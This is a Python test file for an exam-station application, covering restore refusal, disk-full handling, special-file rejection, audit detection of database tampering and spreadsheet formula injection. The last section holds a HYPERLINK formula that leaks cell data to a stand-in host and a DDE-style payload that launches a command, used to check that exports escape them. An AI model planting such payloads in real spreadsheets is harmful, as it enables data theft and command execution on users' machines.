"""Fault injection with real processes and real SQLite files (marked ``slow``; CI runs it
with the rest of ``./scripts/test``).

- Restore while another process has the database open, idle or not: refused, and a
  station whose file was replaced anyway refuses to write rather than write into the
  file set aside (the SIGKILL loop lives in tests/test_crash_durability.py).
- Disk full on a small tmpfs: a typed, translated error, nothing lost.
- A FIFO and a device node as ``--out`` and as input: refused, never replaced, never
  waited on.
"""

from __future__ import annotations

import os
import shutil
import sqlite3
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import test_crash_durability as crash
from test_crash_durability import (
    COORDINATOR,
    COORDINATOR_SECRET,
    EXAM,
    EXAMINER,
    EXAMINER_PIN,
    Setup,
    Worker,
)

from station import cli
from station.storage.backup import backup
from station.storage.errors import BackupError
from station.storage.restore import open_elsewhere, restore

pytestmark = pytest.mark.slow

REPO = Path(__file__).resolve().parent.parent
#: The crash tests' fixtures: a database with an open exam and a draft encounter, and
#: the workers started (killed at the end).
setup = crash.setup
workers = crash.workers


def _idle_station(setup: Setup, workers: list[Worker], tmp_path: Path) -> Worker:
    worker = Worker(
        ["idle", str(setup.db), EXAMINER, EXAMINER_PIN, setup.encounter_id],
        tmp_path / "idle.err",
    )
    # The worker reads "mark" lines from its stdin.
    workers.append(worker)
    worker.expect("READY")
    return worker


def _send(worker: Worker, line: str) -> str | None:
    assert worker.proc.stdin is not None
    worker.proc.stdin.write(f"{line}\n".encode())
    worker.proc.stdin.flush()
    return worker.line()


@pytest.fixture(autouse=True)
def _stdin_for_workers(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Workers here get a pipe on stdin (the crash tests give them /dev/null), closed
    after the test."""
    real = subprocess.Popen
    started: list[subprocess.Popen[bytes]] = []

    def popen(*args: object, **kwargs: object) -> subprocess.Popen[bytes]:
        if kwargs.get("stdin") is subprocess.DEVNULL:
            kwargs["stdin"] = subprocess.PIPE
        proc: subprocess.Popen[bytes] = real(*args, **kwargs)  # type: ignore[call-overload]
        started.append(proc)
        return proc

    monkeypatch.setattr(subprocess, "Popen", popen)
    yield
    for proc in started:
        if proc.stdin is not None:
            proc.stdin.close()


def test_restore_is_refused_while_an_idle_station_has_the_database_open(
    setup: Setup, workers: list[Worker], tmp_path: Path
) -> None:
    saved = backup(setup.db, tmp_path / "saved.db")
    station = _idle_station(setup, workers, tmp_path)
    first = _send(station, "mark")
    assert first is not None and first.startswith("ACK ")
    # Idle now: no transaction open, only its connection. Restore must still refuse.
    assert open_elsewhere(setup.db)
    with pytest.raises(BackupError, match="open in another program"):
        restore(saved.path, setup.db)
    # The command line says so too, and nothing moved.
    assert cli.main(["--db", str(setup.db), "db", "restore", str(saved.path)]) == 1
    assert not list(tmp_path.glob("*.replaced-*"))
    # The station goes on marking into the live database.
    acks = [_send(station, "mark") for _ in range(5)]
    assert all(a is not None and a.startswith("ACK ") for a in acks)
    station.kill()
    ids = {a.split()[1] for a in [first, *acks] if a}
    with sqlite3.connect(setup.db) as connection:
        stored = {row[0] for row in connection.execute("SELECT id FROM item_marks")}
    assert ids <= stored
    # Once the station has gone, the restore goes ahead.
    assert not open_elsewhere(setup.db)
    done = restore(saved.path, setup.db)
    assert done.moved_aside


def test_a_station_whose_database_was_replaced_refuses_to_write(
    setup: Setup, workers: list[Worker], tmp_path: Path
) -> None:
    saved = backup(setup.db, tmp_path / "saved.db")
    station = _idle_station(setup, workers, tmp_path)
    # Someone replaces the file behind the station's back (a copy, another tool).
    aside = setup.db.with_name("station.db.old")
    os.replace(setup.db, aside)
    shutil.copyfile(saved.path, setup.db)
    answers = [_send(station, "mark") for _ in range(5)]
    assert answers == ["REFUSED DatabaseReplacedError"] * 5
    station.kill()
    with sqlite3.connect(aside) as connection:
        assert connection.execute("SELECT count(*) FROM item_marks").fetchone() == (0,)


# ----------------------------------------------------------------- special files


@pytest.fixture
def fifo(tmp_path: Path) -> Iterator[Path]:
    path = tmp_path / "pipe"
    os.mkfifo(path)
    yield path


def _device(tmp_path: Path) -> Path:
    """A character device node of our own (a copy of /dev/null's numbers), so that a
    failure never touches the real /dev; skipped when nodes cannot be made."""
    path = tmp_path / "null-device"
    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("making a device node needs root (CAP_MKNOD)")
    return path


def _run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "station", *args],
        cwd=REPO,
        env=dict(os.environ, PYTHONPATH=str(REPO), **(env or {})),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_a_fifo_given_as_input_is_refused_without_waiting(
    setup: Setup, fifo: Path, tmp_path: Path
) -> None:
    env = {"SKILLSTATION_DB": str(setup.db), "SKILLSTATION_PIN": COORDINATOR_SECRET}
    for args in (
        ["validate", str(fifo)],
        ["--user", COORDINATOR, "exam", "import-candidates", "--exam", EXAM, str(fifo)],
        ["--user", COORDINATOR, "results", "import", "--exam", EXAM, str(fifo)],
    ):
        done = _run(*args, env=env)
        assert done.returncode != 0, args
        assert "not a regular file" in done.stdout + done.stderr, (args, done.stderr)
        assert "Traceback" not in done.stderr


def test_a_fifo_or_a_device_as_out_is_refused_and_left_alone(
    setup: Setup, fifo: Path, tmp_path: Path
) -> None:
    device = _device(tmp_path)
    env = {"SKILLSTATION_DB": str(setup.db), "SKILLSTATION_PIN": COORDINATOR_SECRET}
    for target in (fifo, device):
        before = os.stat(target)
        for args in (
            ["results", "export", "--exam", EXAM, "--out", str(target)],
            ["results", "export", "--exam", EXAM, "--format", "xlsx", "--out", str(target)],
            ["report", "exam", "--exam", EXAM, "--out", str(target)],
            ["report", "badges", "--exam", EXAM, "--out", str(target)],
        ):
            done = _run("--user", COORDINATOR, *args, env=env)
            assert done.returncode == 1, (args, done.stdout, done.stderr)
            assert "not a regular file" in done.stderr, (args, done.stderr)
            after = os.stat(target)
            assert (after.st_ino, stat.S_IFMT(after.st_mode)) == (
                before.st_ino,
                stat.S_IFMT(before.st_mode),
            )
        assert not list(tmp_path.glob(".*.partial"))


# ----------------------------------------------------------------------- disk full


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A 4 MiB tmpfs mounted for the test (unmounted after it); skipped when this
    machine does not let the test mount one (mounting needs root)."""
    mount_point = tmp_path / "small-disk"
    mount_point.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=4m,mode=0700", "tmpfs", str(mount_point)],
        capture_output=True,
        text=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs to fill up: {done.stderr.strip()}")
    try:
        yield mount_point
    finally:
        subprocess.run(["umount", "-l", str(mount_point)], check=False)


def _fill(folder: Path) -> None:
    """Write a file into ``folder`` until its disk is full."""
    with (folder / "filler").open("wb") as filler:
        try:
            while True:
                filler.write(b"\0" * 65536)
                filler.flush()
        except OSError:
            pass
    os.sync()


def test_a_full_disk_is_named_and_loses_nothing(
    setup: Setup, workers: list[Worker], small_disk: Path, tmp_path: Path
) -> None:
    db = small_disk / "station.db"
    shutil.copyfile(setup.db, db)
    key = setup.db.with_name(setup.db.name + ".auditkey")
    shutil.copyfile(key, db.with_name(db.name + ".auditkey"))
    os.chmod(db.with_name(db.name + ".auditkey"), 0o600)
    station = _idle_station(Setup(db, setup.encounter_id, setup.roster), workers, tmp_path)
    acked = _send(station, "mark")
    assert acked is not None and acked.startswith("ACK ")
    _fill(small_disk)
    # The idle station's next marks are refused with the disk named; nothing crashes.
    answers = {_send(station, "mark") for _ in range(3)}
    assert answers == {"REFUSED DiskFull"}
    # Every command, with the database open elsewhere (sign-in writes an audit entry).
    env = {"SKILLSTATION_DB": str(db), "SKILLSTATION_PIN": COORDINATOR_SECRET}
    for args in (
        ["--user", COORDINATOR, "users", "list"],
        ["--lang", "fr", "--user", COORDINATOR, "users", "list"],
    ):
        done = _run(*args, env=env)
        assert done.returncode == 1, (args, done.stdout, done.stderr)
        assert "internal error" not in done.stderr and "Traceback" not in done.stderr
        assert f"{small_disk}" in done.stderr
        assert ("est plein" if "fr" in args else "is full") in done.stderr, done.stderr
    station.kill()
    # An export to the full disk: the message, no traceback from the zip writer.
    out_env = {"SKILLSTATION_DB": str(setup.db), "SKILLSTATION_PIN": COORDINATOR_SECRET}
    done = _run(
        "--user",
        COORDINATOR,
        "results",
        "export",
        "--exam",
        EXAM,
        "--format",
        "xlsx",
        "--out",
        str(small_disk / "results.xlsx"),
        env=out_env,
    )
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert "is full" in done.stderr and "Traceback" not in done.stderr
    assert "Exception ignored" not in done.stderr
    assert not (small_disk / "results.xlsx").exists()
    # With nothing else open, the message is the same (not "disk I/O error").
    done = _run("--user", COORDINATOR, "users", "list", env=env)
    assert done.returncode == 1 and "is full" in done.stderr, done.stderr
    # Nothing acknowledged was lost.
    (small_disk / "filler").unlink()
    with sqlite3.connect(db) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        ids = {row[0] for row in connection.execute("SELECT id FROM item_marks")}
    assert acked.split()[1] in ids


# ------------------------------------------------------------- tampering, table by table

#: One edit (or deletion, or insertion) of each table that decides who gets which result,
#: made with the triggers dropped, and the table ``audit verify`` must then name.
TAMPERS = {
    "candidate numbers swapped": (
        "UPDATE candidates SET candidate_number = 'tmp' WHERE candidate_number = 'C1';"
        "UPDATE candidates SET candidate_number = 'C1' WHERE candidate_number = 'C2';"
        "UPDATE candidates SET candidate_number = 'C2' WHERE candidate_number = 'tmp'",
        "candidates",
    ),
    "candidate renamed": (
        "UPDATE candidates SET family_name = 'Other' WHERE candidate_number = 'C1'",
        "candidates",
    ),
    "candidate removed from an exam": (
        "DELETE FROM exam_candidates WHERE rowid = (SELECT min(rowid) FROM exam_candidates)",
        "exam_candidates",
    ),
    "examiner assignment added": (
        "INSERT INTO exam_station_examiners (exam_station_id, user_id) "
        "SELECT s.id, u.id FROM exam_stations s, users u WHERE u.username = 'una' LIMIT 1",
        "exam_station_examiners",
    ),
    "station pointed at another definition": (
        "UPDATE exam_stations SET label = 'beta' WHERE label = 'alpha'",
        "exam_stations",
    ),
    "definition weights changed": (
        "UPDATE definitions SET data_json = replace(data_json, '\"weight\":2', '\"weight\":9')",
        "definitions",
    ),
    "definition source changed": (
        "UPDATE definitions SET source_yaml = source_yaml || '# edited'",
        "definitions",
    ),
    "device trace replaced": ("UPDATE device_traces SET data = X'00'", "device_traces"),
    "metric edited": ("UPDATE metric_values SET value = value + 1", "metric_values"),
    "metric deleted": (
        "DELETE FROM metric_values WHERE rowid = (SELECT min(rowid) FROM metric_values)",
        "metric_values",
    ),
    "mark edited": ("UPDATE item_marks SET value = 'not_done'", "item_marks"),
    "encounter moved to another candidate": (
        "UPDATE encounters SET candidate_id = (SELECT id FROM candidates "
        "WHERE candidate_number = 'C3') WHERE rowid = (SELECT min(rowid) FROM encounters)",
        "encounters",
    ),
}


@pytest.fixture(scope="module")
def marked_world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A world with marks, a practice attempt with its trace and metrics; the folder."""
    from test_services_support import build_world

    from assessments.scoring import MarkValue

    folder = tmp_path_factory.mktemp("tamper-template")
    world = build_world(folder)
    services = world.services
    view = services.encounters.encounter_view(world.eli, world.draft)
    first = next(iter(view.definition.items()))
    services.encounters.mark_item(world.eli, world.draft, first.id, MarkValue.DONE, t_s=3.0)
    attempt = services.practice.start_practice(world.tom, "adult-cpr-aed")
    trace = b"t_s,depth_mm,force_n,lung_volume_ml\n0.000,0.0,0.0,0.0\n0.010,1.5,20.0,0.0\n"
    services.practice.record_practice_trace(
        world.tom, attempt.id, trace, "sim://cpr serial SIM0001", 2
    )
    services.practice.record_practice_metrics(world.tom, attempt.id, {"compressions": 30.0})
    world.close()
    yield folder


@pytest.mark.parametrize("name", sorted(TAMPERS))
def test_audit_verify_names_every_table_that_decides_a_result(
    marked_world: Path, tmp_path: Path, name: str
) -> None:
    from station.storage import open_database
    from station.storage.audit import verify

    copy = tmp_path / "world"
    shutil.copytree(marked_world, copy)
    db_path = copy / "exam.db"
    with open_database(db_path, create=False) as db:
        assert verify(db, db.audit_key).ok
    statement, table = TAMPERS[name]
    with sqlite3.connect(db_path, isolation_level=None) as connection:
        triggers = connection.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")
        for (trigger,) in triggers.fetchall():
            connection.execute(f'DROP TRIGGER "{trigger}"')
        for part in statement.split(";"):
            assert connection.execute(part).rowcount > 0, (name, part)
    connection.close()
    with open_database(db_path, create=False) as db:
        result = verify(db, db.audit_key)
    assert not result.ok, name
    assert table in str(result.problem), (name, result.problem)


# ------------------------------------------------------------------ formula injection

FORMULA_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_formula_names_stay_text_in_every_export(tmp_path: Path) -> None:
    import csv
    import json

    from openpyxl import load_workbook
    from test_services_support import build_world

    world = build_world(tmp_path / "world")
    services = world.services
    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [["candidate_id", "family_name", "given_name"], [FORMULA_ID, FORMULA_NAME, "-2+3"]]
        )
    services.roster.import_roster(world.cora, "OSCE-1", roster)
    encounter = services.encounters.check_in(world.eli, "OSCE-1", "alpha", FORMULA_ID)
    services.encounters.submit(world.eli, encounter.id, allow_incomplete=True)

    out = tmp_path / "results.csv"
    services.exports.export_results(world.cora, "OSCE-1", "csv", out)
    with out.open(encoding="utf-8", newline="") as handle:
        ids = {row["candidate_id"] for row in csv.DictReader(handle)}
    assert "'" + FORMULA_ID in ids and FORMULA_ID not in ids

    items = tmp_path / "items.csv"
    services.exports.export_results(world.cora, "OSCE-1", "items-csv", items)
    text = items.read_text(encoding="utf-8")
    for line in text.splitlines()[1:]:
        assert not line.startswith(("=", "+", "-", "@", '"=')), line

    book_path = tmp_path / "results.xlsx"
    services.exports.export_results(world.cora, "OSCE-1", "xlsx", book_path)
    book = load_workbook(book_path)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in (FORMULA_ID, FORMULA_NAME, "-2+3"):
                    seen.add(cell.value)
    assert seen == {FORMULA_ID, FORMULA_NAME, "-2+3"}  # kept as the text it is

    statements = tmp_path / "results.json"
    services.exports.export_results(world.cora, "OSCE-1", "xapi", statements)
    json.loads(statements.read_text(encoding="utf-8"))  # JSON: no formulas to fear
    world.close()
